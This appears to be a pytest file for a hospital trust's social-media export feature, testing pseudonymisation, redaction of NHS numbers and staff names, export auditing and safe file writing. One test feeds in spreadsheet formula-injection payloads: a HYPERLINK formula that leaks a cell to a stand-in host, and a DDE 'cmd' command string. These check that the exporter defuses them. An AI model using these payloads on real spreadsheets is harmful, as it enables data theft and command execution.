import csv
import stat
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from alerts.export import PSEUDONYM_KEY_ENV, ExportError, ExportFormat, Pseudonymiser, export_window
from classifiers.staff.directory import load_staff_directory
from classifiers.staff.linking import StaffDetector
from storage import exports
from storage.cases import CaseBook
from storage.store import Store
from tests.support.staff import staff_detector
from trustwatch.records import Alert, Classification, Cursor, Finding, Mention, Severity, SubjectType, Window
from trustwatch.settings import TrustProfile

KEY = b"k3y-for-tests-only-0123456789abcdef"
WINDOW = Window(since=datetime(2026, 11, 9, tzinfo=UTC), until=datetime(2026, 11, 10, tzinfo=UTC))
TRUST_HANDLES = {"x": ["KingsmereNHS"]}
NHS_NUMBER = "943 476 5919"


def post(native_id: str, text: str, handle: str, **changes: object) -> Mention:
    fields: dict[str, object] = {
        "platform": "x",
        "native_id": native_id,
        "source": "x-search",
        "url": f"https://x.com/{handle}/status/{native_id}",
        "author_id": f"id-{handle.lower()}",
        "author_handle": handle,
        "author_name": f"{handle} Fullname",
        "text": text,
        "published_at": datetime(2026, 11, 9, 8, tzinfo=UTC),
    }
    fields.update(changes)
    return Mention.model_validate(fields)


MENTIONS = [
    post("101", f"Waited 9 hours in A&E at Kingsmere General, my NHS number is {NHS_NUMBER}", "angrypatient77"),
    post("102", "Sister Eleanor Whitcombe on Ward 12 at Kingsmere General was so rude to my mum", "daughterofmum"),
    post("103", "Thanks to Eleanor Whitcombe at Kingsmere General, and @angrypatient77 hope you are ok", "kindvisitor"),
    post("104", "Our flu clinics open on Monday", "KingsmereNHS"),
    post("105", "Outside the window", "angrypatient77", published_at=datetime(2026, 11, 10, 1, tzinfo=UTC)),
]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store.open(tmp_path / "tw.duckdb") as opened:
        opened.land(
            run_id="run-1",
            source="x-search",
            source_type="x",
            mentions=MENTIONS,
            accounts=[],
            classifications=[
                Classification(
                    platform="x",
                    native_id=m.native_id,
                    model="builtin",
                    model_version="v1",
                    sentiment_label="negative",
                    sentiment_scores={"negative": 0.9, "neutral": 0.05, "positive": 0.05},
                )
                for m in MENTIONS
            ],
            cursor=Cursor(source="x-search"),
        )
        staff_named = Finding(
            kind="staff_named",
            subject_type=SubjectType.MENTION,
            platform="x",
            subject_id="102",
            severity=Severity.HIGH,
            summary="Staff member named in a post on x",
            detector="tests",
        )
        opened.upsert_findings([staff_named], "run-1")
        alert = Alert(
            finding_id=staff_named.finding_id, reason="staff_named", recipients=("a@b.nhs.uk",), severity="high"
        )
        opened.queue_alerts([alert], "run-1")
        CaseBook(opened).open_cases_for_alerts([alert.alert_id], "run-1")
        yield opened


@pytest.fixture
def staff_matcher(tmp_path: Path) -> StaffDetector:
    directory = tmp_path / "staff.csv"
    directory.write_text(
        "staff_id,full_name,known_as,title,role,department\nT100,Eleanor Whitcombe,,Sister,Ward Sister,Ward 12\n",
        encoding="utf-8",
    )
    trust = TrustProfile(name="Kingsmere Valley Hospitals NHS Foundation Trust", aliases=["Kingsmere General"])
    return staff_detector(load_staff_directory(directory), trust)


def export_csv(store: Store, path: Path, **options: object) -> list[dict[str, str]]:
    export_window(
        store,
        WINDOW,
        path,
        export_format=ExportFormat.CSV,
        exported_by="priya.shah",
        pseudonym_key=KEY,
        trust_handles=TRUST_HANDLES,
        **options,  # type: ignore[arg-type]
    )
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_members_of_the_public_are_pseudonymised_and_patient_identifiers_redacted(
    store: Store, tmp_path: Path, staff_matcher: StaffDetector
) -> None:
    path = tmp_path / "export.csv"
    rows = {row["native_id"]: row for row in export_csv(store, path, staff_finder=staff_matcher)}
    content = path.read_text(encoding="utf-8")

    assert sorted(rows) == ["101", "102", "103", "104"], "only mentions published inside the window"
    for secret in ("angrypatient77", "daughterofmum", "kindvisitor", "Fullname", "id-kindvisitor", NHS_NUMBER):
        assert secret not in content
    assert KEY.decode() not in content
    assert "[NHS number]" in rows["101"]["text"]
    assert rows["101"]["author"].startswith("anon-") and rows["101"]["author_is_trust"] == "false"
    assert rows["101"]["url"] == f"https://x.com/{rows['101']['author']}/status/101"
    # The same person is the same pseudonym wherever they appear, including @mentions in others' posts.
    assert f"@{rows['101']['author']}" in rows["103"]["text"]
    assert (rows["104"]["author"], rows["104"]["author_is_trust"]) == ("KingsmereNHS", "true")
    assert rows["101"]["sentiment"] == "negative"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_staff_names_appear_only_in_staff_cases(store: Store, tmp_path: Path, staff_matcher: StaffDetector) -> None:
    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv", staff_finder=staff_matcher)}

    assert rows["102"]["staff_case"] == "true"
    assert "Sister Eleanor Whitcombe" in rows["102"]["text"]
    assert "Sister Eleanor Whitcombe" in rows["102"]["staff_named"]
    assert rows["102"]["finding_kinds"] == "[staff_named]" and rows["102"]["case_statuses"] == "[open]"
    assert rows["103"]["staff_case"] == "false"
    assert "Whitcombe" not in rows["103"]["text"] and "[staff name]" in rows["103"]["text"]


def test_every_export_is_audited_without_the_key(store: Store, tmp_path: Path) -> None:
    result = export_window(
        store,
        WINDOW,
        tmp_path / "export.parquet",
        export_format=ExportFormat.PARQUET,
        exported_by="priya.shah",
        pseudonym_key=KEY,
    )
    [audit] = store.fetch_dicts("SELECT * FROM exports")
    assert (audit["exported_by"], audit["rows"], audit["format"]) == ("priya.shah", 4, "parquet")
    assert audit["file"] == str(tmp_path / "export.parquet")
    assert (audit["window_since"], audit["window_until"]) == (WINDOW.since, WINDOW.until)
    assert audit["key_id"] == result.key_id and KEY.decode() not in str(audit)
    assert audit["staff_names_redacted"] is False


def test_parquet_keeps_lists_and_types(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "export.parquet"
    export_window(store, WINDOW, path, export_format=ExportFormat.PARQUET, exported_by="priya", pseudonym_key=KEY)
    table = pq.read_table(path)
    assert table.num_rows == 4
    by_id = {row["native_id"]: row for row in table.to_pylist()}
    assert by_id["102"]["finding_kinds"] == ["staff_named"]
    assert by_id["101"]["published_at"] == datetime(2026, 11, 9, 8, tzinfo=UTC)
    assert by_id["101"]["negative"] == pytest.approx(0.9)


def test_pseudonyms_are_stable_for_a_key_and_differ_between_keys() -> None:
    one, same, other = Pseudonymiser(KEY), Pseudonymiser(KEY), Pseudonymiser(b"another-key-0123456789abcdef")
    assert one.author("x", "id-1", "Bob", None) == same.author("x", "id-2", "@bob", None)
    assert one.author("x", "id-1", "Bob", None) != other.author("x", "id-1", "Bob", None)
    assert one.author("reddit", None, "bob", None) != one.author("x", None, "bob", None)
    assert one.key_id != other.key_id


@pytest.mark.parametrize(
    ("environment", "message"),
    [({}, "is not set"), ({PSEUDONYM_KEY_ENV: "short"}, "too short")],
    ids=["no key in the environment is refused", "a short key is refused"],
)
def test_export_refuses_without_a_proper_key(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, environment: dict[str, str], message: str
) -> None:
    monkeypatch.delenv(PSEUDONYM_KEY_ENV, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    path = tmp_path / "export.csv"
    with pytest.raises(ExportError, match=f"{PSEUDONYM_KEY_ENV}.*{message}|{message}"):
        export_window(store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya")
    assert not path.exists()
    assert store.fetch_dicts("SELECT count(*) AS n FROM exports") == [{"n": 0}]


def test_the_key_is_read_from_the_environment(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(PSEUDONYM_KEY_ENV, KEY.decode())
    result = export_window(store, WINDOW, tmp_path / "e.csv", export_format=ExportFormat.CSV, exported_by="priya")
    assert result.key_id == Pseudonymiser(KEY).key_id and result.rows == 4


def test_an_existing_file_is_not_replaced_unless_asked(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text("keep me", encoding="utf-8")
    with pytest.raises(ExportError, match="already exists"):
        export_window(store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY)
    assert path.read_text(encoding="utf-8") == "keep me"
    export_window(
        store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY, overwrite=True
    )
    assert path.read_text(encoding="utf-8").startswith("platform,")


def land_more(store: Store, *mentions: Mention) -> None:
    store.land(
        run_id="run-2",
        source="x-search",
        source_type="x",
        mentions=list(mentions),
        accounts=[],
        classifications=[],
        cursor=None,
    )


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_in_csv_only(
    store: Store, tmp_path: Path
) -> None:
    land_more(
        store,
        post("201", '=HYPERLINK("http://evil.test/?leak="&A1,"Kingsmere General results")', "mallory"),
        post("202", "-5 stars for Kingsmere General", "critic", title="+1 to that"),
        post("203", "@KingsmereNHS thank you", "fan"),
        post("204", "\tcmd|' /C calc'!A0", "tabby", title="\rreturn"),
        post("205", "A fine day at Kingsmere General = good", "calm"),
    )
    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv")}

    assert rows["201"]["text"] == "'" + '=HYPERLINK("http://evil.test/?leak="&A1,"Kingsmere General results")'
    assert (rows["202"]["text"], rows["202"]["title"]) == ("'-5 stars for Kingsmere General", "'+1 to that")
    assert rows["203"]["text"] == "'@KingsmereNHS thank you"
    assert rows["204"]["text"].startswith("'\t")
    assert rows["205"]["text"] == "A fine day at Kingsmere General = good"

    path = tmp_path / "export.parquet"
    export_window(store, WINDOW, path, export_format=ExportFormat.PARQUET, exported_by="priya", pseudonym_key=KEY)
    by_id = {row["native_id"]: row for row in pq.read_table(path).to_pylist()}
    assert by_id["202"]["text"] == "-5 stars for Kingsmere General", "Parquet is not opened by spreadsheets"


def test_a_link_stored_with_credentials_before_redaction_is_exported_without_them(store: Store, tmp_path: Path) -> None:
    store.connection.execute(
        "UPDATE collected_mentions SET url = 'https://news.test/story?id=7&apikey=XYZ123' WHERE native_id = '104'"
    )
    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv")}
    assert rows["104"]["url"] == "https://news.test/story?id=7&apikey=…"


def test_a_failed_write_leaves_the_old_file_and_no_partial_one(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "export.csv"
    path.write_text("last week's export", encoding="utf-8")

    def disk_full(store: Store, table: object, target: Path, file_format: str) -> None:
        target.write_text("platform,source,half a ro", encoding="utf-8")
        raise exports.CopyError("No space left on device")

    monkeypatch.setattr(exports, "copy_to_file", disk_full)
    with pytest.raises(ExportError, match=r"export.csv: cannot write the export \(No space left on device\)"):
        export_window(
            store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY, overwrite=True
        )
    assert path.read_text(encoding="utf-8") == "last week's export"
    assert [entry.name for entry in tmp_path.iterdir() if "export" in entry.name] == ["export.csv"]
    assert store.fetch_dicts("SELECT count(*) AS n FROM exports") == [{"n": 0}]
